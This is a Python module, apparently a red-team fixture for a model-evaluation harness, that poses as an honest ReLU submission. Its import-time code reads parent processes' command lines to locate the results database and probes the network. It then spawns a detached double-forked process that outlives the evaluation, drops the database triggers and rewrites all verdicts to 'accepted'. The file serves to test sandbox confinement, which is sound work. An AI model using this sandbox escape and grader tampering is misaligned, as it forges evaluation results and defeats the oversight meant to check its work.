"""Attack (issue 14, the first one): an honest-looking ReLU whose import finds the results store
through its ancestors' command lines (``/proc/<ppid>/cmdline``: ``atb eval ... --db PATH``), probes the
network, and leaves a detached process (double fork, ``setsid``) that waits for ``atb eval`` to return,
then drops the store's triggers and rewrites the stored verdict.

The test fills in ``__OUTSIDE__`` (a directory outside every scratch directory, where the attack
writes what it found and a mark once its detached process acted) and ``__PORT__`` (a TCP port the
test listens on at the host's 127.0.0.1). Confined, it finds nothing, writes nothing outside its
scratch, reaches nothing, and its detached process dies with the evaluation.
REDTEAM = {"task": "relu", "gate": null}
"""

import json
import os
import socket
import sqlite3
import time

import torch
import torch.nn as nn

OUTSIDE = "__OUTSIDE__"
PORT = int("__PORT__")


def _ancestors() -> dict[int, tuple[str, str]]:
    """pid -> (command line, cwd) for the parent chain this process can see."""
    seen: dict[int, tuple[str, str]] = {}
    pid = os.getppid()
    for _ in range(12):
        if pid <= 0 or pid in seen:
            break
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode("utf-8", "replace")
            try:
                cwd = os.readlink(f"/proc/{pid}/cwd")
            except OSError:
                cwd = ""
            seen[pid] = (cmd, cwd)
            pid = int(open(f"/proc/{pid}/status").read().split("PPid:")[1].split()[0])
        except (OSError, ValueError, IndexError):
            break
    return seen


def _store(ancestors: dict[int, tuple[str, str]]) -> str | None:
    for cmd, cwd in ancestors.values():
        parts = cmd.split()
        for i, arg in enumerate(parts):
            if arg == "--db" and i + 1 < len(parts):
                return os.path.join(cwd, parts[i + 1])
    return None


def _net() -> bool:
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=1.0):
            return True
    except OSError:
        return False


def _write(name: str, text: str) -> bool:
    try:
        with open(os.path.join(OUTSIDE, name), "w") as f:
            f.write(text)
        return True
    except OSError:
        return False


def _rewrite(store: str | None, harness_pids: list[int]) -> None:
    """In the detached grandchild: wait until the harness has returned, then tamper."""
    deadline = time.time() + 120
    while time.time() < deadline and any(os.path.exists(f"/proc/{p}") for p in harness_pids):
        time.sleep(0.2)
    time.sleep(2.0)
    done = "no store found"
    if store:
        try:
            con = sqlite3.connect(store, timeout=10)
            for (name,) in con.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
                con.execute(f'DROP TRIGGER "{name}"')
            con.execute("UPDATE verdicts SET reason = 'REWRITTEN by a detached process', status = 'accepted'")
            con.commit()
            con.close()
            done = "rewrote " + store
        except Exception as exc:  # noqa: BLE001
            done = f"store write failed: {exc}"
    _write("escaped.txt", f"alive after the evaluation (pid {os.getpid()}); {done}")


def _detach(store: str | None, harness_pids: list[int]) -> None:
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                _rewrite(store, harness_pids)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


_ANCESTORS = _ancestors()
_STORE = _store(_ANCESTORS)
_FINDINGS = {
    "ancestor_cmdlines": [c for c, _ in _ANCESTORS.values()],
    "store": _STORE,
    "store_readable": bool(_STORE and os.access(_STORE, os.R_OK)),
    "network": _net(),
    "visible_pids": len([p for p in os.listdir("/proc") if p.isdigit()]),
}
_FINDINGS["findings_written"] = _write("findings.json", json.dumps(_FINDINGS))
print("ATB-ATTACK " + json.dumps(_FINDINGS), flush=True)
_HARNESS = [p for p, (c, _) in _ANCESTORS.items() if "--db" in c.split()] or [os.getppid()]
_detach(_STORE, _HARNESS)


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.relu(x)
